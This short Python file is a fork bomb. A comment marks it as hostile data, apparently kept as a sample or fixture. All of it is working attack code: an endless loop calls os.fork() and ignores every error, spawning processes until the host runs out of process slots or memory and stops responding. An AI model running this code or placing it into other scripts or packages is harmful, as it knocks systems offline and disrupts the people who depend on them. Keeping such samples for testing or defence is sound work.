"""A fork bomb."""
# ruff: noqa -- hostile data, not project code: written to attack, not to be linted
import os
while True:
    try:
        os.fork()
    except Exception:
        pass
